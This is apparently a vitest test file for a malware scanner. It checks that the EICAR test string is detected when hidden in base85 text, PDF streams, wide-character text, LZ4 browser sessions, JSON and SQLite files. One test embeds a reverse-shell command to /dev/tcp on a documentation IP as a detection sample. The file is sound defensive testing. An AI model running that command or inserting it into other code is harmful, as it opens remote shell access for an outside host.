import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { Budget, SCAN_LIMITS } from '#scanner/reading/limits.ts';
import { wideTextsIn } from '#scanner/text/wide-texts.ts';
import { examined } from '#test/examined.ts';
import { EICAR, noise, zip } from '#test/files.ts';
import { SAVED_VALUES } from '#test/saved-values.ts';
import { httpMessages } from './http-messages.ts';
import { isNumpy } from './numpy.ts';
import { isPickle } from './pickle.ts';

// Objects and arrays that Python saves, network traffic in pieces, and base85 without a mark.

const folder = mkdtempSync(join(tmpdir(), 'palisade-saved-'));

const latin = (text: string) => Buffer.from(text, 'latin1');
const WORDS = latin('Words that nobody needs to read.\n'.repeat(20));

describe('output of Python programs and network tools', () => {
  test.each([...SAVED_VALUES])('is read: %s', async (_, bytes) => {
    const { threat, unread } = await examined(bytes);
    expect([typeof threat, unread]).toEqual(['string', []]);
  });
});

describe('similar files of other kinds', () => {
  test.each([
    ['a list of words', 'cat\ndog\nItem one\nplus two\n.'],
    ['a letter in brackets', '(the first of them)\np1 is the second.\n'],
    ['a table', 'I1\nI2\nI3\n.\n'],
    ['a line that is quoted', "S'abc'\nand more of it\n"],
  ])('%s', (_, text) => {
    expect(isPickle(latin(text))).toBe(false);
  });

  test('noise', () => {
    const bytes = noise(100_000);
    for (let at = 0; at < 50_000; at += 1) {
      const head = bytes.subarray(at, at + 4096);
      expect([isPickle(head), isNumpy(head)]).toEqual([false, false]);
    }
  });
});

describe('messages of HTTP', () => {
  test('are taken apart one behind the other', () => {
    const messages = latin(
      'GET / HTTP/1.1\r\nHost: a\r\n\r\nPOST /a HTTP/1.1\r\nContent-Length: 3\r\n\r\nabcHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nde\r\n1;x=y\r\nf\r\n0\r\n\r\n',
    );
    expect(httpMessages(messages, new Budget(SCAN_LIMITS, 1024))?.bodies.map(({ bytes }) => bytes.toString())).toEqual([
      'abc',
      'def',
    ]);
  });

  test('have their actual bytes in spite of larger claims, and similar text is none', () => {
    const claims = latin('HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\nabc');
    expect(httpMessages(claims, new Budget(SCAN_LIMITS, 1024))?.bodies).toMatchObject([{ bytes: latin('abc') }]);
    expect(
      httpMessages(latin('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\nabc'), new Budget(SCAN_LIMITS, 1024))
        ?.bodies,
    ).toMatchObject([{ bytes: latin('abc') }]);
    expect(httpMessages(WORDS, new Budget(SCAN_LIMITS, 1024))).toBeUndefined();
  });
});

describe('base85 that nothing names', () => {
  const ADOBE = Array.from({ length: 85 }, (_, index) => String.fromCharCode(33 + index)).join('');
  const PYTHON = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';
  const ZEROMQ = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#';
  const written = (bytes: Buffer, alphabet: string) => {
    const groups =
      Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)])
        .toString('hex')
        .match(/.{8}/g) ?? [];
    return groups
      .map((group) =>
        [4, 3, 2, 1, 0].map((place) => alphabet[Math.floor(Number.parseInt(group, 16) / 85 ** place) % 85]).join(''),
      )
      .join('');
  };
  const zipped = zip([{ name: 'eicar.com', content: EICAR }]);
  const lines = (letters: string) => (letters.match(/.{1,72}/g) ?? []).join('\n');
  const FORMS: readonly [string, (letters: string) => string][] = [
    ['alone', (letters) => `${letters}\n`],
    ['in lines, behind words', (letters) => `Here it is:\n\n${lines(letters)}\n\nGood bye\n`],
    ['in a literal', (letters) => `data = ${JSON.stringify(letters)}\nprint(len(data))\n`],
    ['in a value of JSON', (letters) => JSON.stringify({ id: 1, blob: letters }, null, 1)],
    [
      'in an XML',
      (letters) => `<a><b>${letters.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</b></a>`,
    ],
    ['in a section of an XML', (letters) => `<?xml version="1.0"?><a><b><![CDATA[${letters}]]></b></a>`],
  ];
  const CASES = FORMS.flatMap(([form, write]) =>
    (
      [
        ['Adobe', ADOBE],
        ['Python', PYTHON],
        ['ZeroMQ', ZEROMQ],
      ] as const
    ).map(([name, alphabet]): [string, string] => [`${name}, ${form}`, write(written(zipped, alphabet))]),
  );
  // The values behind the letters by Python 3.11: b85encode, a85encode.
  test('is written as Python writes it', () => {
    expect(written(latin('palisade'), PYTHON)).toBe('aA9m|b75p<');
    expect(written(latin('palisade'), ADOBE)).toBe('E+*QsF(&Tj');
  });

  test.each(CASES)('is read: %s', async (_, text) => {
    expect(await examined(latin(text))).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
  });

  test.each([
    ['Adobe', ADOBE],
    ['Python', PYTHON],
    ['ZeroMQ', ZEROMQ],
  ])('is read where it is a text of letters of four bytes: %s', async (_, alphabet) => {
    const text = Buffer.concat([...EICAR.toString('latin1')].map((letter) => latin(`\0\0\0${letter}`)));
    const file = latin(`data = ${JSON.stringify(written(text, alphabet))}\nprint(len(data))\n`);
    expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
  });

  test('is not seen in common content of programs', async () => {
    const address = `https://example.com/A/b/${'Some-Path_1/'.repeat(20)}?q=1&r=Two`;
    const program = `a.b=function(c){return{D:c.E,F:[1,2],G:"H"}};`.repeat(50);
    expect(await examined(latin(`${address}\n${program}\n`))).toMatchObject({ threat: null, unread: [], notes: [] });
  });
});

describe('files written as letters in a stream of a PDF', () => {
  const zipped = zip([{ name: 'eicar.com', content: EICAR }]);
  const base64 = zipped.toString('base64');
  const pdf = (stream: Buffer, filter = '') =>
    Buffer.concat([
      latin(`%PDF-1.5\n1 0 obj\n<<${filter} /Length ${stream.length}>>\nstream\n`),
      stream,
      latin('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n'),
    ]);
  test.each([
    ['as it is', pdf(latin(base64))],
    ['in lines', pdf(latin((base64.match(/.{1,76}/g) ?? []).join('\n')))],
    ['in digits', pdf(latin(zipped.toString('hex')))],
    ['in what is shown', pdf(latin(`BT /F1 12 Tf (${base64}) Tj ET`))],
    ['packed', pdf(deflateSync(latin(base64)), '/Filter /FlateDecode')],
  ])('is read: %s', async (_, file) => {
    expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
  });

  test('is no page by the numbers of its letters', async () => {
    const page = `BT /F1 9 Tf <${'00480065006c006c006f'.repeat(9)}> Tj ET\n`.repeat(40);
    expect(await examined(pdf(latin(page)))).toMatchObject({ threat: null, unread: [], coverage: { members_total: 0 } });
  });
});

describe('a text of wide letters between other bytes', () => {
  const LINE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # and some words behind it\n';
  const wide = (width: number, is_big: boolean) =>
    Buffer.concat(
      [...LINE].map((letter) => {
        const bytes = Buffer.alloc(width);
        bytes[is_big ? width - 1 : 0] = letter.charCodeAt(0);
        return bytes;
      }),
    );
  test.each([
    [2, false],
    [2, true],
    [4, false],
    [4, true],
  ] as const)('is read: %i bytes a letter, the highest first: %s', async (width, is_big) => {
    for (const before of [300, 301]) {
      const file = Buffer.concat([latin('\x93\x01'), noise(before), wide(width, is_big), noise(300)]);
      const { threat, unread } = await examined(file);
      expect(threat).toContain('Shell');
      expect(unread).toEqual([]);
    }
  });

  test('is read as the file that is written in it', async () => {
    const letters = Buffer.from(zip([{ name: 'eicar.com', content: EICAR }]).toString('base64'), 'utf16le');
    const file = Buffer.concat([latin('\x93\x01'), noise(300), letters, noise(300)]);
    expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
  });

  test('is read as base64 of one byte a letter', async () => {
    const letters = latin(zip([{ name: 'eicar.com', content: EICAR }]).toString('base64'));
    const file = Buffer.concat([latin('\x93\x01'), noise(300), Buffer.alloc(1), letters, Buffer.alloc(1), noise(300)]);
    expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
  });

  test('is none where numbers have zeros between them', () => {
    expect(
      wideTextsIn(Buffer.from(Array.from({ length: 5000 }, (_, index) => (index % 2 === 0 ? (index * 7) % 256 : 0)))),
    ).toBeUndefined();
    expect(wideTextsIn(Buffer.alloc(100_000))).toBeUndefined();
    expect(wideTextsIn(noise(100_000))).toBeUndefined();
  });
});

describe('a session of a browser', () => {
  test('packed with LZ4 is unpacked, and one that claims more than there is is damaged', async () => {
    const size = Buffer.alloc(4);
    size.writeUInt32LE(EICAR.length);
    const literal = Buffer.concat([Buffer.from([0xf0, EICAR.length - 15]), EICAR]);
    const file = (claim: Buffer) => Buffer.concat([latin('mozLz40\0'), claim, literal]);
    expect(await examined(file(size), { name: 'a.jsonlz4' })).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
    expect(await examined(file(Buffer.alloc(4, 0xff)))).toMatchObject({ unread: ['damaged'] });
  });
});

test('bytes that JSON has as characters are read', async () => {
  const zipped = zip([{ name: 'eicar.com', content: EICAR }]).toString('latin1');
  for (const text of [
    JSON.stringify({ file: zipped }),
    JSON.stringify({ file: zipped }).replaceAll(/[\x7f-\xff]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
  ])
    expect(await examined(Buffer.from(text, 'utf8'))).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
});

test('a vault of Ansible is encrypted', async () => {
  expect(await examined(latin(`$ANSIBLE_VAULT;1.1;AES256\n${'3132'.repeat(20)}\n`))).toMatchObject({ unread: ['encrypted'] });
});

test('a text in a database is read alone as well', async () => {
  const path = join(folder, 'texts.db');
  const database = new DatabaseSync(path);
  database.exec('create table notes (id integer primary key, body text)');
  for (const body of ['Words that nobody needs to read, and more of them.', EICAR.toString('latin1')])
    database.prepare('insert into notes (body) values (?)').run(body);
  database.close();
  expect(await examined(readFileSync(path))).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
});

test('a zip behind the last whole page of a database that does not say how many it has is opened', async () => {
  const path = join(folder, 'pages.db');
  const database = new DatabaseSync(path);
  database.exec('create table notes (id integer primary key, body text)');
  database.close();
  const pages = Buffer.from(readFileSync(path));
  pages.writeUInt32BE(0, 28);
  const behind = zip([{ name: 'eicar.com', content: EICAR }]);
  expect(await examined(Buffer.concat([pages, behind]))).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
});
